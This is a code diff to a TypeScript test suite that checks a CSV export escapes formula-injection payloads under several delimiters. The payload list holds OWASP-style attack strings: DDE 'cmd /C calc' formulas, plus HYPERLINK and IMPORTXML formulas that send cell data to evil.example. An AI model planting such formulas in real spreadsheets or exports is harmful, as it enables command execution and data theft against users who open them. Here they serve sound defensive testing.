@@ -10,11 +10,11 @@ import { toCsvText } from '../../../renderer/src/features/enrich/export';
 // The payload families of https://owasp.org/www-community/attacks/CSV_Injection and common variants.
 const PAYLOADS = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
   '+SUM(1,2)',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
   '=DDE("cmd";"/C calc";"!A0")A0',
   '\t=1+1',
@@ -43,7 +43,14 @@ function fieldsAs(delimiter: string, text: string): string[] {
 describe('exported cells under every list separator', () => {
   for (const delimiter of DELIMITERS) {
     it(`no payload is a live formula when split on ${JSON.stringify(delimiter)}`, () => {
-      const cells = PAYLOADS.flatMap((p) => [p, `x${delimiter}${p}`, `x,${p}`, `x;${p}`, `x\t${p}`, `a "b"${delimiter}${p}`]);
+      const cells = PAYLOADS.flatMap((p) => [
+        p,
+        `x${delimiter}${p}`,
+        `x,${p}`,
+        `x;${p}`,
+        `x\t${p}`,
+        `a "b"${delimiter}${p}`,
+      ]);
       const text = toCsvText({ headers: ['h', ...PAYLOADS], cells: (row) => row.values }, [
         { jobId: 'j', index: 0, status: 'done', values: cells } as never,
       ]);
@@ -55,7 +62,15 @@ describe('exported cells under every list separator', () => {
 
   for (const delimiter of DELIMITERS) {
     it(`no payload is live even to a reader that splits on ${JSON.stringify(delimiter)} and ignores quotes`, () => {
-      const cells = PAYLOADS.flatMap((p) => [p, `x${delimiter}${p}`, `x,${p}`, `x;${p}`, `x\t${p}`, `"${p}`, `x${delimiter}"${p}`]);
+      const cells = PAYLOADS.flatMap((p) => [
+        p,
+        `x${delimiter}${p}`,
+        `x,${p}`,
+        `x;${p}`,
+        `x\t${p}`,
+        `"${p}`,
+        `x${delimiter}"${p}`,
+      ]);
       for (const line of csvLine(cells).split(/\r\n|\r|\n/)) {
         for (const piece of line.split(delimiter)) {
           if (live(piece)) throw new Error(`live piece under ${JSON.stringify(delimiter)}: ${JSON.stringify(piece)}`);
